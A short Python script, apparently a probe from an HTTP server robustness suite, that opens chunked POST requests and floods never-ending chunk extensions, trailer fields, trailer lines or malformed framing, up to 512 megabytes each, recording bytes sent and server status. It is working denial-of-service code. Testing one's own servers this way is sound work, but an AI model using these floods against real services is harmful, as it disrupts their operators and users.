"""A chunked body whose first chunk extension, or whose trailers, never end."""

import attack

options = attack.arguments(__doc__, megabytes=512)
head = attack.request("POST", options.path, ["Transfer-Encoding: chunked", "Content-Type: application/json"])
results = {}
for name, begin, piece in (
    ("extension", b"1;", b"x" * 65536),
    ("trailer_fields", b"0\r\n", b"T: x\r\n" * 10000),
    ("trailer_line", b"0\r\nT: ", b"x" * 65536),
    ("framing", b"", b"1;x=y\r\n \r\n" * 6000),
):
    with attack.connect(options.port) as connection:
        connection.sendall(head + begin)
        sent, status = attack.flood(connection, piece, options.megabytes)
    results[name] = {"sent_megabytes": round(sent / 1e6, 1), "status": status}
attack.tell(options, **results)
